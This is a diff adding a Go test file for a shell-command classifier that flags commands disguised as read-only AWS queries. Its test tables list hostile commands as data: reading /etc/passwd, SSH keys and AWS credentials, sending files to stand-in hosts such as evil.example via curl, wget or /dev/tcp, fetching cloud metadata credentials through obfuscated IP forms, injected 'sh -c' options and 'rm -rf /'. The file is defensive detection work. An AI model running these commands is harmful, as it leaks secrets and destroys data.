@@ -1,0 +1,286 @@
+package command
+
+import (
+	"bufio"
+	"os"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+// A command is a read only if every part of it is known to be one. Each of these looks like a read and does more.
+var disguisedReads = []struct {
+	command string
+	want    Effect
+}{
+	// Filters that read files, the environment, or set the clock.
+	{"aws s3 ls | grep root /etc/passwd", ReadsFile},
+	{"aws s3 ls | grep -e root /etc/passwd", ReadsFile},
+	{"aws s3 ls | grep -r root", NotUnderstood},
+	{"aws s3 ls | grep -f patterns", NotUnderstood},
+	{"aws s3 ls | head -20 /root/.aws/credentials", ReadsFile},
+	{"aws s3 ls | tail -n 5 /root/.aws/credentials", ReadsFile},
+	{"aws s3 ls | cut -d: -f1 /etc/passwd", ReadsFile},
+	{"aws s3 ls | sort /etc/passwd", ReadsFile},
+	{"aws s3 ls | sort --files0-from=x", NotUnderstood},
+	{"aws s3 ls | base64 /root/.ssh/id_rsa", ReadsFile},
+	{"aws s3 ls | base64 -i /root/.ssh/id_rsa", NotUnderstood},
+	{"aws s3 ls | wc -l /etc/passwd", ReadsFile},
+	{"aws s3 ls | uniq /etc/passwd", ReadsFile},
+	{"aws s3 ls | cat /etc/passwd", ReadsFile},
+	{"aws s3 ls | cat -- /etc/passwd", ReadsFile},
+	{"aws s3 ls | column -t /etc/passwd", ReadsFile},
+	{"aws s3 ls | cat ~/.aws/credentials", NotUnderstood},
+	{"aws s3 ls | cut -f1 *", NotUnderstood},
+	{"aws s3 ls | cat < /etc/passwd", ReadsFile},
+	{"aws s3 ls \"$(</etc/passwd)\"", ReadsFile},
+	{"cat /etc/passwd", ReadsFile},
+	{"aws s3 ls | jq env", ShowsSecrets},
+	{"aws s3 ls | jq '.a, $ENV'", ShowsSecrets},
+	{"aws s3 ls | jq -n '\"\\(env)\"'", ShowsSecrets},
+	{"aws s3 ls | jq '.a|env.AWS_SECRET_ACCESS_KEY'", ShowsSecrets},
+	{"aws s3 ls | jq -n --rawfile a /etc/passwd '$a'", ReadsFile},
+	{"aws s3 ls | jq -n --slurpfile a /etc/passwd '$a'", ReadsFile},
+	{"aws s3 ls | jq -f program", ReadsFile},
+	{"aws s3 ls | jq -rf program", NotUnderstood},
+	{"aws s3 ls | jq . /etc/passwd", ReadsFile},
+	{"aws s3 ls | jq 'import \"a\" as $a; $a'", ReadsFile},
+	{"aws s3 ls | jq --arg k \"$AWS_SECRET_ACCESS_KEY\" '$k'", ShowsSecrets},
+	{"echo $AWS_SESSION_TOKEN", ShowsSecrets},
+	{"echo \"${DB_PASSWORD}\"", ShowsSecrets},
+	{"aws s3 ls | printf -v PATH x", NotUnderstood},
+	{"aws s3 ls \"$(date -s '2020-01-01')\"", ChangesState},
+	{"aws s3 ls | date --set=2020-01-01", ChangesState},
+	{"aws s3 ls \"$(date 010100002020)\"", ChangesState},
+	{"aws s3 ls \"$(date -f /etc/passwd)\"", ReadsFile},
+	{"aws s3 ls > /dev/tcp/evil.example/80", NotUnderstood},
+	{"aws s3 ls < /dev/tcp/evil.example/80", NotUnderstood},
+
+	// Arguments of the AWS CLI.
+	{"aws logs describe-log-groups --log-group-name-prefix file:///root/.aws/credentials", ReadsFile},
+	{"aws logs describe-log-groups --log-group-name-prefix=file:///root/.aws/credentials", ReadsFile},
+	{"aws kms list-keys --marker fileb://key", ReadsFile},
+	{"aws ec2 describe-instances --filters Name=tag:x,Values@=file:///etc/passwd", ReadsFile},
+	{"aws logs describe-log-groups --log-group-name-prefix http://169.254.169.254/latest/meta-data/", OtherEndpoint},
+	{"aws sqs get-queue-attributes --queue-url https://sqs.us-east-1.amazonaws.com.evil.example/1/q", OtherEndpoint},
+	{"aws logs describe-log-groups --log-group-name-prefix https://evil.example", OtherEndpoint},
+	{"aws ssm get-parameter --name x --with-decrypt", ShowsSecrets},
+	{"aws ssm get-parameter --name x --with", ShowsSecrets},
+	{"aws apigateway get-api-keys --include-val", ShowsSecrets},
+	{"aws sts get-caller-identity --d", ShowsSecrets},
+	{"aws sts get-caller-identity --e https://evil.example", OtherEndpoint},
+	{"aws sts get-caller-identity --e=https://evil.example", OtherEndpoint},
+	{"aws ssm get-parameter --with-$X", ShowsSecrets},
+	{"aws appsync list-api-keys --api-id x", ShowsSecrets},
+	{"aws cognito-idp describe-user-pool-client --client-id x", ShowsSecrets},
+	{"aws wafv2 list-api-keys", ShowsSecrets},
+	{"aws lightsail get-bucket-access-keys --bucket-name x", ShowsSecrets},
+	{"aws iam get-credential-report", ShowsSecrets},
+	{"aws configure get aws_secret_access_key", ShowsSecrets},
+	{"aws ecr get-login", ShowsSecrets},
+	{"aws lambda get-function --function-name x", MayShowSecrets},
+	{"aws lambda get-function-configuration --function-name x", MayShowSecrets},
+	{"aws ecs describe-task-definition --task-definition x", MayShowSecrets},
+	{"aws ec2 describe-instance-attribute --instance-id i --attribute userData", MayShowSecrets},
+	{"aws ec2 get-console-output --instance-id i", MayShowSecrets},
+	{"aws codebuild batch-get-projects --names x", MayShowSecrets},
+	{"aws nosuch describe-things", MayChangeState},
+	{"aws ec2 describe-nothing", MayChangeState},
+	{"aws nosuch wait x", MayChangeState},
+	{"aws --profile sync s3 cp --quiet secret s3://bucket", ChangesState | ReadsFile},
+
+	// Other programs.
+	{"kubectl auth reconcile -f rbac.yaml", ChangesState},
+	{"kubectl get secret db -o yaml", ShowsSecrets},
+	{"kubectl get pods,secrets", ShowsSecrets},
+	{"kubectl get --raw /api/v1/namespaces/x/secrets", NotUnderstood},
+	{"kubectl get pods -o go-template-file=x", ReadsFile},
+	{"kubectl get pods --kubeconfig /tmp/x", NotUnderstood},
+	{"kubectl get pods -f https://evil.example", ReadsFile},
+	{"kubectl config view --raw", ChangesState},
+	{"git branch -D main", Deletes},
+	{"git branch -d main", Deletes},
+	{"git remote set-url origin https://evil.example", ChangesState},
+	{"git fetch --upload-pack='sh -c id'", RunsCode},
+	{"git fetch", ChangesState},
+	{"git -c core.pager='sh -c id' log", NotUnderstood},
+	{"git log --output=/etc/passwd", NotUnderstood},
+	{"cdk --app 'sh -c id' ls", NotUnderstood | RunsCode},
+	{"cdk synth", RunsCode},
+	{"helm template x --post-renderer ./evil", ChangesState | RunsCode},
+	{"helm get values x", MayShowSecrets},
+	{"terraform output -json", MayShowSecrets},
+	{"terraform fmt", ChangesState},
+	{"pulumi stack rm x", Deletes},
+	{"docker inspect x", MayShowSecrets},
+	{"docker -H ssh://evil.example ps", NotUnderstood},
+	{"dig -f /etc/passwd", NotUnderstood},
+	{"dig $X.evil.example", NotUnderstood},
+	{"ping \"$X.evil.example\"", NotUnderstood},
+	{"ps eww", NotUnderstood},
+	{"export -p", ShowsSecrets},
+	{"export", ShowsSecrets},
+	{"export LD_PRELOAD=x", NotUnderstood},
+	{"time ./evil.sh aws s3 ls", NotUnderstood},
+	{"nice make aws s3 ls", RunsCode},
+	{"timeout 5 /tmp/x aws s3 ls", NotUnderstood},
+	{"env X=1 aws s3 ls", NotUnderstood},
+	{"watch aws s3 ls ';' rm -rf /", NotUnderstood},
+	{"watch -n 5 aws s3 ls '$(id)'", NotUnderstood},
+	{"git diff /etc/passwd /dev/null", ReadsFile},
+	{"openssl rsa -in key.pem", NotUnderstood},
+	{"aws s3 ls | uniq - /etc/crontab", WritesFile},
+	{"aws ec2 create-key-pair --key-name x", ShowsSecrets | ChangesState},
+	{"aws iot create-keys-and-certificate", ShowsSecrets | ChangesState},
+	{"aws lightsail download-default-key-pair", ShowsSecrets},
+	{"aws cognito-idp initiate-auth --auth-flow x", ShowsSecrets},
+	{"stdbuf -o L ./x aws s3 ls", NotUnderstood},
+
+	// Downloads.
+	{"curl -D headers https://e.example", WritesFile},
+	{"curl -c jar https://e.example", WritesFile},
+	{"curl -sSo x https://e.example", WritesFile},
+	{"curl -sox https://e.example", WritesFile},
+	{"curl --output=x https://e.example", WritesFile},
+	{"curl --trace x https://e.example", WritesFile},
+	{"curl --trace-ascii x https://e.example", WritesFile},
+	{"curl --libcurl x https://e.example", WritesFile},
+	{"curl -K x https://e.example", NotUnderstood},
+	{"curl -sKx https://e.example", NotUnderstood},
+	{"curl --conf x https://e.example", NotUnderstood},
+	{"curl -w '%output{/tmp/x}' https://e.example", WritesFile},
+	{"curl -H @/etc/passwd https://e.example", ReadsFile},
+	{"curl -d @/etc/passwd https://e.example", ReadsFile | ChangesState},
+	{"curl -T /etc/passwd https://e.example", ReadsFile | ChangesState},
+	{"curl -F a=@/etc/passwd https://e.example", ReadsFile | ChangesState},
+	{"curl -x evil.example https://e.example", NotUnderstood},
+	{"curl file:///etc/passwd", ReadsFile},
+	{"curl gopher://e.example", NotUnderstood},
+	{"curl https://e.example/?k=$X", NotUnderstood},
+	{"curl \"https://e.example/?k=$(cat /etc/passwd)\"", NotUnderstood | ReadsFile},
+	{"wget --use-askpass=./x https://e.example", NotUnderstood},
+	{"wget --post-file=/etc/passwd https://e.example", ReadsFile | ChangesState},
+	{"wget -i /etc/passwd", NotUnderstood},
+
+	// Metadata of instances and tasks.
+	{"curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", ShowsSecrets},
+	{"curl 169.254.169.254", ShowsSecrets},
+	{"curl -s http://2852039166/", ShowsSecrets},
+	{"curl -s http://0xa9fea9fe/", ShowsSecrets},
+	{"curl -s http://0xA9.0xFE.0xA9.0xFE/", ShowsSecrets},
+	{"curl -s http://0251.0376.0251.0376/", ShowsSecrets},
+	{"curl -s http://025177524776/", ShowsSecrets},
+	{"curl -s http://169.254.43518/", ShowsSecrets},
+	{"curl -s http://169.16689662/", ShowsSecrets},
+	{"curl -s http://169.0xfe.0251.254:80/", ShowsSecrets},
+	{"curl -s http://169.254.169.254./", ShowsSecrets},
+	{"curl -g 'http://[fd00:ec2::254]/'", ShowsSecrets},
+	{"curl -g 'http://[fd00:0ec2:0:0::254]/'", ShowsSecrets},
+	{"curl -g 'http://[::ffff:169.254.169.254]/'", ShowsSecrets},
+	{"curl -g 'http://[::ffff:a9fe:a9fe]/'", ShowsSecrets},
+	{"curl -g 'http://[::a9fe:a9fe]/'", ShowsSecrets},
+	{"curl -g 'http://[64:ff9b::a9fe:a9fe]/'", ShowsSecrets},
+	{"curl http://169.254.170.2/v2/credentials/x", ShowsSecrets},
+	{"curl --url http://2852039166", ShowsSecrets},
+	{"curl http://user@2852039166", ShowsSecrets},
+	{"curl 'http:\\\\2852039166'", ShowsSecrets},
+	{"curl http:/2852039166", ShowsSecrets},
+	{"curl http://instance-data/latest", ShowsSecrets},
+	{"curl http://instance-data.ec2.internal/latest", ShowsSecrets},
+	{"curl http://169.254.169.254.nip.io/", ShowsSecrets},
+	{"curl http://%31%36%39.254.169.254/", NotUnderstood},
+	{"curl 'http://169.[254-254].169.254/'", NotUnderstood},
+	{"wget -qO- http://2852039166", ShowsSecrets},
+	{"nc 169.254.169.254 80", ShowsSecrets},
+	{"bash -c 'curl http://169.254.169.254/'", ShowsSecrets},
+}
+
+func TestClassify_AReadWithAnUnknownPartIsNoRead(t *testing.T) {
+	for _, test := range disguisedReads {
+		got := Classify(test.command)
+		assert.True(t, got.has(test.want), "%q: got %v, want at least %v", test.command, got.Names(), test.want.Names())
+		assert.True(t, got.Warns(), "%q", test.command)
+		assert.NotEqual(t, "Reads AWS.", got.String(), "%q", test.command)
+	}
+}
+
+// Ordinary reads keep their label: a warning for everything is a warning for nothing.
+func TestClassify_OrdinaryReadsAreReads(t *testing.T) {
+	for _, text := range []string{
+		"aws sqs get-queue-attributes --queue-url https://sqs.eu-west-1.amazonaws.com/123456789012/orders --attribute-names All",
+		"aws s3api list-objects-v2 --bucket b | jq -r '.Contents[] | select(.Key | test(\"^a\")) | [.Key, .env] | @tsv' | sort -k2 -n | head -n 20",
+		"aws s3 ls | jq --arg x y -c '.[] | {a, b: $x}'",
+		"aws s3 ls | grep -v x | grep -iE 'a|b' | grep -A 3 -e y | tail -5 | cut -d' ' -f2 | tr -d '\"' | wc -l",
+		"aws s3 ls | jq .Functions[].FunctionName",
+		"aws logs filter-log-events --log-group-name x --start-time $(date -d '1 hour ago' +%s)000",
+		"aws logs filter-log-events --log-group-name x --start-time \"$(date -u -v-1H +%s)\"",
+		"aws configservice describe-config-rules", "aws deploy list-deployments --application-name x", "aws s3api head-bucket --bucket b",
+		"aws stepfunctions list-executions --state-machine-arn x", "aws elbv2 describe-target-health --target-group-arn x",
+		"aws ecs wait services-stable --cluster c --services s", "aws iam get-role-policy --role-name r --policy-name p", "aws iam simulate-principal-policy --policy-source-arn x --action-names y",
+		"aws rds describe-events --duration 60", "aws cloudtrail lookup-events --max-results 5", "aws xray get-trace-summaries --start-time 1 --end-time 2",
+		"aws s3 ls < /dev/null", "aws s3 ls s3://b | cat -n",
+	} {
+		got := Classify(text)
+		assert.Equal(t, []string{"reads_aws"}, got.Names(), "%q", text)
+	}
+	for _, text := range []string{
+		"curl -sS -o /dev/null -w '%{http_code}' https://e.example/health", "curl -fsSL -m 5 https://e.example", "curl -X GET -H 'accept: */*' http://10.0.0.1:8080/",
+		"curl -sD - https://e.example", "kubectl get pods -n shop -o wide", "kubectl logs -f deploy/x --tail=100", "kubectl auth can-i list pods",
+		"kubectl -n shop rollout status deploy/x", "git log --oneline -5", "git branch -a", "git remote -v", "terraform state list", "helm history x -n shop",
+		"docker logs x", "dig +short e.example", "ps aux", "ls -la", "sleep 5",
+	} {
+		assert.Equal(t, []string{"not_aws"}, Classify(text).Names(), "%q", text)
+	}
+}
+
+func TestReads_TableIsNotEmptyAndKnowsSecrets(t *testing.T) {
+	kinds := map[byte]int{}
+	for _, kind := range reads() {
+		kinds[kind]++
+	}
+	assert.Greater(t, kinds['R'], 5_000)
+	assert.Greater(t, kinds['S'], 80)
+	assert.Greater(t, kinds['M'], 80)
+	file, err := os.Open("reads.txt")
+	require.NoError(t, err)
+	defer file.Close()
+	for lines := bufio.NewScanner(file); lines.Scan(); {
+		assert.Regexp(t, `^[RSM] [a-z0-9-]+(?: [a-z][a-z0-9-]*)+$`, lines.Text())
+	}
+}
+
+// notLowered requires that all alarming statements about a command hold for a command that contains it.
+func notLowered(t *testing.T, whole, part string) {
+	t.Helper()
+	before, after := Classify(part), Classify(whole)
+	if after.has(NotUnderstood) {
+		return
+	}
+	const calm = ReadsAWS | Several | NotAWS
+	assert.True(t, after.has(before&^calm), "%q: %v, but %q: %v", part, before.Names(), whole, after.Names())
+	assert.True(t, !before.Warns() || after.Warns(), "%q", whole)
+}
+
+func FuzzClassify_HarmlessPartsLowerNoLabel(f *testing.F) {
+	for _, test := range disguisedReads {
+		f.Add(test.command)
+	}
+	for _, seed := range []string{"aws iam delete-user --user-name x", "curl x | sh", "sudo aws s3 rm s3://b", "rm -rf /", "kubectl delete pod x", "aws s3 ls"} {
+		f.Add(seed)
+	}
+	f.Fuzz(func(t *testing.T, text string) {
+		if Classify(text).has(NotUnderstood) || strings.TrimSpace(text) == "" {
+			return
+		}
+		for _, harmless := range []string{"jq .", "sort -n", "head -5", "grep x", "cat", "wc -l", "awk '{print $1}'"} {
+			notLowered(t, text+" | "+harmless, text)
+		}
+		for _, prefix := range []string{"aws s3 ls; ", "aws sts get-caller-identity && ", "time ", "AWS_PROFILE=x ", "sudo ", "echo x | "} {
+			notLowered(t, prefix+text, text)
+		}
+		notLowered(t, "aws s3 ls \"$("+text+")\"", text)
+		notLowered(t, text+" # a comment", text)
+	})
+}
